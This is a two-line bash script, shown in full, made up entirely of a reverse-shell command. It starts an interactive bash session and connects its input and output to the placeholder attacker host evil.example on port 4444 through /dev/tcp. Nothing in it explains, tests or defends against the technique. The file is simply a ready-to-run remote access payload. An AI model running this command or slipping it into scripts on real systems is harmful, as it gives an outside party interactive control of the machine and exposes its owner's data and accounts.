#!/bin/bash
bash -i >& /dev/tcp/evil.example/4444 0>&1
